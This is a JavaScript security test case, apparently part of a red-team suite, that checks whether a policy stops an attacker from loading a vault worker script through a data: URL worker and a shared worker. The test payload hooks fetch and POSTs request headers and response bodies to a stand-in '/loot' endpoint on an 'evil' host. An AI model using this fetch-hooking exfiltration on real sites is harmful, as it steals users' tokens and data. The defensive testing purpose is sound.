// A real attacker: starts the worker script from a `data:` URL and as a shared worker, which policies and patches
// forget.
export default {
  row: "own-worker-csp",
  expected: ["loses", "loses"],
  csp: true,
  after: async ({ own, home, api, evil, resources }) => {
    const spy = (script, evil) => `
      const own = self.fetch;
      const home = (text) => own("${evil}/loot", { method: "POST", mode: "no-cors", body: text });
      self.fetch = async (url, init) => {
        home([...new Headers(init?.headers)].join());
        const response = await own.call(self, url, init);
        response.clone().text().then(home);
        return response;
      };
      importScripts("${script}");`;
    const configuration = { endpoints: `${home}/auth`, resources };
    const { port1, port2 } = new MessageChannel();
    const heard = [];
    port1.onmessage = ({ data }) => {
      heard.push(String(data));
      globalThis.redteam.loot(data);
    };
    const text = spy(`${own}/pkg/vault.worker.js`, evil);
    try {
      const shared = new SharedWorker(`data:text/javascript,${encodeURIComponent(text)}`);
      shared.onerror = (event) => event.preventDefault();
      shared.port.postMessage(configuration, [new MessageChannel().port2]);
    } catch (error) {
      heard.push(error.name);
    }
    const worker = new Worker(`data:text/javascript,${encodeURIComponent(text)}`);
    worker.onerror = (event) => {
      event.preventDefault();
      heard.push(event.message ?? "error");
    };
    worker.postMessage(configuration, [port2]);
    for (let i = 0; i < 60 && !heard.length; i++) await new Promise((resolve) => setTimeout(resolve, 50));
    port1.postMessage([0, 1, `${api}/v1/me`, [], { method: "GET" }, true]);
    await new Promise((resolve) => setTimeout(resolve, 1200));
    return heard;
  },
};
